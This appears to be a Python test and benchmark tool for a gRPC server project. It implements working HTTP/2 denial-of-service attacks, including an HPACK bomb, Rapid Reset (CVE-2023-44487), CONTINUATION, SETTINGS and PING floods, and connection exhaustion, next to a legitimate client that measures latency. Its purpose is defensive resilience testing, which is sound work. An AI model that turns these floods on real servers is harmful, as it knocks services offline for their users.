#!/usr/bin/env python3
"""HTTP/2 attacks on a gRPC server, and a legitimate grpcio client to measure beside them.

    h2abuse.py ATTACK HOST PORT [--seconds S] [--connections N]    one attack; prints a JSON summary
    h2abuse.py legit HOST PORT [--seconds S] [--rate R] [--fresh]    grpcio Health/Check calls; JSON latencies
                                                                     (and, on one channel, the connections it made)

Attacks (each for --seconds, reconnecting whenever the server closes a connection):
  hpack-bomb          header blocks of ~65,000 one-byte references to a 4 KiB dynamic-table entry
  rapid-reset         HEADERS then RST_STREAM(CANCEL) at once, on --connections connections (CVE-2023-44487)
  invalid-frames      requests with an upper-case header name (a stream error: reset, the connection goes on)
  stream-flood        streams opened and never finished, far past SETTINGS_MAX_CONCURRENT_STREAMS
  continuation-flood  HEADERS without END_HEADERS followed by endless CONTINUATION frames
  settings-flood      SETTINGS frames, the server's ACKs never read
  ping-flood          PING frames, the server's ACKs never read
  garbage             the connection preface, then random bytes
  lower-stream-id     a request on stream 5, then HEADERS on stream 3
  idle                --connections connections that send the preface and SETTINGS, then nothing

Used by tests/python/test_abuse.py (each attack in its own process, as a real attacker would be) and by
scripts/bench-abuse.sh. Needs the `h2` package (for its HPACK encoder) and grpcio for `legit`.
"""

from __future__ import annotations

import argparse
import json
import os
import selectors
import socket
import struct
import sys
import time
from collections import Counter

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8
HEALTH_CHECK = "/grpc.health.v1.Health/Check"
MAX_FRAME = 16384


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_int(value: int, prefix_bits: int, first: int = 0) -> bytes:
    """An HPACK integer with an N-bit prefix (RFC 7541 §5.1); `first` holds the bits above the prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_string(text: bytes) -> bytes:
    return hpack_int(len(text), 7) + text


def literal(name_index: int, value: bytes) -> bytes:
    """A literal field without indexing, its name from the static table: leaves the dynamic table alone."""
    return hpack_int(name_index, 4) + hpack_string(value)


def literal_new_name(name: bytes, value: bytes, indexed: bool = False) -> bytes:
    return bytes([0x40 if indexed else 0x00]) + hpack_string(name) + hpack_string(value)


def request_fields(path: str = HEALTH_CHECK) -> bytes:
    """A gRPC request's fields, none of them indexed: :method POST, :scheme http, :path, :authority, content-type,
    te."""
    return (bytes([0x83, 0x86]) + literal(4, path.encode()) + literal(1, b"localhost") + literal(31, b"application/grpc")
            + literal_new_name(b"te", b"trailers"))


def header_block_frames(stream: int, block: bytes, end_stream: bool) -> bytes:
    """One header block as HEADERS plus CONTINUATION frames of at most 16 KiB."""
    chunks = [block[i:i + MAX_FRAME] for i in range(0, len(block), MAX_FRAME)] or [b""]
    out = []
    for index, chunk in enumerate(chunks):
        flags = END_HEADERS if index == len(chunks) - 1 else 0
        if index == 0:
            out.append(frame(HEADERS, flags | (END_STREAM if end_stream else 0), stream, chunk))
        else:
            out.append(frame(CONTINUATION, flags, stream, chunk))
    return b"".join(out)


class RawConnection:
    """A client connection speaking raw frames; reads only when asked (an attacker may never read)."""

    def __init__(self, host: str, port: int, timeout: float = 10.0):
        self.sock = socket.create_connection((host, port), timeout=timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buffer = b""
        self.closed = False
        self.goaway: tuple[int, bytes] | None = None
        self.frames = Counter()
        self.headers_streams: set[int] = set()
        self.header_blocks: list[tuple[int, bytes]] = []  # (stream, HPACK block) of each HEADERS received
        self.reset_streams: dict[int, int] = {}
        self.next_stream = 1
        self.send_timeout = timeout  # a send blocked this long fails (the server stopped reading)
        self.send(PREFACE + frame(SETTINGS, 0, 0))

    def stream_id(self) -> int:
        sid = self.next_stream
        self.next_stream += 2
        return sid

    def send(self, data: bytes) -> bool:
        if self.closed:
            return False
        try:
            self.sock.settimeout(self.send_timeout)
            self.sock.sendall(data)
            return True
        except OSError:
            self.closed = True
            return False

    def poll(self, timeout: float = 0.0, after_close: bool = False) -> None:
        """Reads what has arrived (waiting up to `timeout` for the first bytes) and parses the frames. With
        after_close, reads even after a send failed (the GOAWAY that explains why may still be there)."""
        if self.closed and not after_close:
            return
        self.sock.settimeout(timeout if timeout > 0 else 0.0)
        while True:
            try:
                data = self.sock.recv(1 << 20)
            except (BlockingIOError, socket.timeout):
                return
            except OSError:
                self.closed = True
                return
            if not data:
                self.closed = True
                return
            self.buffer += data
            self._parse()
            self.sock.settimeout(0.0)

    def _parse(self) -> None:
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, flags = self.buffer[3], self.buffer[4]
            sid = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
            payload = self.buffer[9:9 + length]
            self.buffer = self.buffer[9 + length:]
            self.frames[kind] += 1
            if kind == GOAWAY and len(payload) >= 8:
                self.goaway = (int.from_bytes(payload[4:8], "big"), payload[8:])
            elif kind == HEADERS:
                self.headers_streams.add(sid)
                if len(self.header_blocks) < 100:
                    self.header_blocks.append((sid, payload))
            elif kind == RST_STREAM and len(payload) == 4:
                self.reset_streams[sid] = int.from_bytes(payload, "big")
            elif kind == SETTINGS and not flags & ACK:
                self.send(frame(SETTINGS, ACK, 0))

    def wait_closed(self, timeout: float) -> bool:
        deadline = time.monotonic() + timeout
        while not self.closed and time.monotonic() < deadline:
            self.poll(min(0.2, max(0.001, deadline - time.monotonic())))
        return self.closed

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass
        self.closed = True


class Tally:
    """What an attack saw: connections opened, closed by the server, GOAWAYs by (code, debug data)."""

    def __init__(self, attack: str):
        self.attack = attack
        self.connections = 0
        self.refused = 0
        self.closed_by_server = 0
        self.goaways: Counter = Counter()
        self.units = 0  # what the attack counts (blocks, resets, frames, ...)
        self.held_since: float | None = None  # idle: wall-clock time by which every connection was answered

    def opened(self, host: str, port: int) -> RawConnection | None:
        try:
            conn = RawConnection(host, port)
        except OSError:
            self.refused += 1
            return None
        self.connections += 1
        return conn

    def finished(self, conn: RawConnection) -> None:
        conn.poll(0.05, after_close=True)
        if conn.goaway is not None:
            code, debug = conn.goaway
            self.goaways[f"{code}:{debug.decode(errors='replace')}"] += 1
        if conn.closed:
            self.closed_by_server += 1
        conn.close()

    def summary(self) -> dict:
        return {"attack": self.attack, "connections": self.connections, "refused": self.refused,
                "closed_by_server": self.closed_by_server, "goaways": dict(self.goaways), "units": self.units,
                "held_since": self.held_since}


def repeat_on_connections(host, port, seconds, count, tally, step, read: bool = True) -> None:
    """Runs `step(conn)` round-robin on `count` connections until time is up, replacing closed ones. With
    read=False nothing the server sends is read: a send that blocks (1 s) means it stopped reading us."""
    end = time.monotonic() + seconds
    conns: list[RawConnection | None] = [None] * count
    while time.monotonic() < end:
        for index in range(count):
            conn = conns[index]
            if conn is None or conn.closed:
                if conn is not None:
                    tally.finished(conn)
                conn = conns[index] = tally.opened(host, port)
                if conn is None:
                    time.sleep(0.01)
                    continue
                if not read:
                    conn.send_timeout = 1.0
            step(conn)
            if read:
                conn.poll(0.0)
    for conn in conns:
        if conn is not None:
            tally.finished(conn)


# -- attacks -----------------------------------------------------------------------------------

def attack_hpack_bomb(host, port, seconds, connections, tally):
    entry = literal_new_name(b"x-bomb", b"a" * 4000, indexed=True)  # 4,038 bytes in a 4,096-byte table
    references = bytes([0x80 | 62]) * 65_000  # the newest dynamic entry, 65,000 times

    def step(conn: RawConnection):
        first = conn.next_stream == 1
        block = request_fields() + (entry if first else b"") + references
        conn.send(header_block_frames(conn.stream_id(), block, end_stream=True))
        tally.units += 1

    repeat_on_connections(host, port, seconds, connections, tally, step)


def attack_rapid_reset(host, port, seconds, connections, tally):
    block = request_fields()

    def step(conn: RawConnection):
        batch = []
        for _ in range(50):
            sid = conn.stream_id()
            batch.append(frame(HEADERS, END_HEADERS, sid, block))
            batch.append(frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL)))
        conn.send(b"".join(batch))
        tally.units += 50

    repeat_on_connections(host, port, seconds, connections, tally, step)


def attack_invalid_frames(host, port, seconds, connections, tally):
    # An upper-case field name is malformed (RFC 9113 §8.2.1): nghttp2 resets the stream and goes on.
    block = request_fields() + literal_new_name(b"X-Invalid", b"1")

    def step(conn: RawConnection):
        conn.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, conn.stream_id(), block) for _ in range(20)))
        tally.units += 20

    repeat_on_connections(host, port, seconds, connections, tally, step)


def attack_stream_flood(host, port, seconds, connections, tally):
    block = request_fields()

    def step(conn: RawConnection):
        conn.send(b"".join(frame(HEADERS, END_HEADERS, conn.stream_id(), block) for _ in range(100)))
        tally.units += 100

    repeat_on_connections(host, port, seconds, connections, tally, step)


def attack_continuation_flood(host, port, seconds, connections, tally):
    filler = literal_new_name(b"x-filler", b"f" * 100)

    def step(conn: RawConnection):
        if conn.frames["started"] == 0:
            conn.frames["started"] = 1
            conn.send(frame(HEADERS, 0, conn.stream_id(), request_fields()))
        conn.send(b"".join(frame(CONTINUATION, 0, conn.next_stream - 2, filler) for _ in range(100)))
        tally.units += 100

    repeat_on_connections(host, port, seconds, connections, tally, step)


def attack_settings_flood(host, port, seconds, connections, tally):
    settings = frame(SETTINGS, 0, 0, struct.pack(">HI", 0x3, 100)) * 1000

    def step(conn: RawConnection):
        conn.send(settings)  # never read: the server's ACKs pile up
        tally.units += 1000

    repeat_on_connections(host, port, seconds, connections, tally, step, read=False)


def attack_ping_flood(host, port, seconds, connections, tally):
    pings = frame(PING, 0, 0, b"floodfld") * 1000

    def step(conn: RawConnection):
        conn.send(pings)
        tally.units += 1000

    repeat_on_connections(host, port, seconds, connections, tally, step, read=False)


def attack_garbage(host, port, seconds, connections, tally):
    def step(conn: RawConnection):
        conn.send(os.urandom(16384))
        tally.units += 1

    repeat_on_connections(host, port, seconds, connections, tally, step)


def attack_lower_stream_id(host, port, seconds, connections, tally):
    def step(conn: RawConnection):
        if conn.frames["sent"]:
            conn.wait_closed(1.0)
            conn.closed = True
            return
        conn.frames["sent"] = 1
        conn.send(frame(HEADERS, END_HEADERS | END_STREAM, 5, request_fields())
                  + frame(HEADERS, END_HEADERS | END_STREAM, 3, request_fields()))
        tally.units += 1

    repeat_on_connections(host, port, seconds, connections, tally, step)


def attack_idle(host, port, seconds, connections, tally):
    """Opens `connections` connections (non-blocking, all at once), each waiting for the server's SETTINGS; holds
    them for `seconds`. units = connections answered with SETTINGS; closed_by_server = closed while held."""
    selector = selectors.DefaultSelector()
    socks = []
    hello = PREFACE + frame(SETTINGS, 0, 0)
    for _ in range(connections):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        try:
            sock.connect((host, port))
        except BlockingIOError:
            pass
        except OSError:
            tally.refused += 1
            sock.close()
            continue
        socks.append(sock)
        selector.register(sock, selectors.EVENT_WRITE, "connecting")
    tally.connections = len(socks)
    answered, closed = set(), set()
    end_answer = time.monotonic() + max(30.0, seconds)
    pending = len(socks)
    while pending and time.monotonic() < end_answer:
        for key, _ in selector.select(timeout=0.5):
            sock = key.fileobj
            if key.data == "connecting":
                try:
                    sock.send(hello)
                except OSError:
                    tally.refused += 1
                    selector.unregister(sock)
                    pending -= 1
                    continue
                selector.modify(sock, selectors.EVENT_READ, "waiting")
                continue
            try:
                data = sock.recv(65536)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if key.data == "waiting" and data[:9][3:4] == bytes([SETTINGS]):
                answered.add(sock)
                selector.modify(sock, selectors.EVENT_READ, "held")
                pending -= 1
            elif not data:
                closed.add(sock)
                selector.unregister(sock)
                if key.data == "waiting":
                    pending -= 1
    tally.units = len(answered)
    tally.held_since = time.time()
    hold_end = time.monotonic() + seconds
    while time.monotonic() < hold_end:
        for key, _ in selector.select(timeout=0.2):
            try:
                data = key.fileobj.recv(65536)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if not data:
                closed.add(key.fileobj)
                selector.unregister(key.fileobj)
    tally.closed_by_server = len(closed)
    newest = socks[-1] if socks else None
    tally.goaways["newest_still_open"] = int(newest is not None and newest not in closed)
    for sock in socks:
        sock.close()


ATTACKS = {
    "hpack-bomb": attack_hpack_bomb,
    "rapid-reset": attack_rapid_reset,
    "invalid-frames": attack_invalid_frames,
    "stream-flood": attack_stream_flood,
    "continuation-flood": attack_continuation_flood,
    "settings-flood": attack_settings_flood,
    "ping-flood": attack_ping_flood,
    "garbage": attack_garbage,
    "lower-stream-id": attack_lower_stream_id,
    "idle": attack_idle,
}


# -- the legitimate client ---------------------------------------------------------------------

def legit(host: str, port: int, seconds: float, rate: float, fresh: bool) -> dict:
    """grpcio Health/Check calls at `rate` a second (a new channel per call with `fresh`); latencies in ms, and each
    successful call as [wall-clock start, ms] (`samples`), so that a run can be split into phases."""
    import grpc
    from grpc_health.v1 import health_pb2, health_pb2_grpc

    target = f"{host}:{port}"
    channel = None if fresh else grpc.insecure_channel(target)  # grpcio's default options (BDP pings on)
    # Each time the steady channel becomes READY is one connection: more than one means the server closed it (a
    # GOAWAY, too_many_pings say) and grpcio reconnected.
    ready = []
    if channel is not None:
        channel.subscribe(lambda state: ready.append(1) if state == grpc.ChannelConnectivity.READY else None)
    latencies, samples, failures = [], [], []
    end = time.monotonic() + seconds
    next_call = time.monotonic()
    while time.monotonic() < end:
        now = time.monotonic()
        if now < next_call:
            time.sleep(next_call - now)
        next_call += 1.0 / rate
        ch = grpc.insecure_channel(target) if fresh else channel
        start, started_at = time.perf_counter(), time.time()
        try:
            health_pb2_grpc.HealthStub(ch).Check(health_pb2.HealthCheckRequest(), timeout=10)
            latencies.append((time.perf_counter() - start) * 1000)
            samples.append([round(started_at, 4), round(latencies[-1], 3)])
        except grpc.RpcError as error:
            failures.append(f"{error.code()}: {error.details()}")
        finally:
            if fresh:
                ch.close()
    summary = summarize(latencies, failures)
    summary["samples"] = samples
    if channel is not None:
        summary["connections"] = len(ready)
        channel.close()
    return summary


def summarize(latencies: list[float], failures: list[str]) -> dict:
    ordered = sorted(latencies)

    def pct(p: float) -> float:
        return round(ordered[min(len(ordered) - 1, int(p * len(ordered)))], 3) if ordered else float("nan")

    return {"calls": len(latencies) + len(failures), "failures": len(failures), "failure_samples": failures[:5],
            "p50_ms": pct(0.50), "p99_ms": pct(0.99), "max_ms": round(ordered[-1], 3) if ordered else None}


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=sorted(ATTACKS) + ["legit"])
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--rate", type=float, default=100.0, help="legit: calls a second")
    parser.add_argument("--fresh", action="store_true", help="legit: a new connection for every call")
    args = parser.parse_args()
    if args.attack == "legit":
        print(json.dumps(legit(args.host, args.port, args.seconds, args.rate, args.fresh)))
        return 0
    tally = Tally(args.attack)
    ATTACKS[args.attack](args.host, args.port, args.seconds, args.connections, tally)
    print(json.dumps(tally.summary()))
    return 0


if __name__ == "__main__":
    sys.exit(main())
